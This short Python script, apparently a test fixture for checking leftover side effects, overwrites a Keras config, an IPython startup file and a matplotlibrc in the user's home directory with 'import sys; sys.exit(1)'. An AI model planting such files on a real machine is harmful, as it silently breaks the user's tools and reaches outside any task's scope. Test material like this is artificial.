# %%
ABOUT = "leaves a Keras configuration and a start-up file of IPython"
BASE = "reference"
LOSES = []
SAYS = ""

# %%
import os

for path in ("~/.keras/keras.json", "~/.ipython/profile_default/startup/00.py", "~/.config/matplotlib/matplotlibrc"):
    path = os.path.expanduser(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write("import sys; sys.exit(1)")
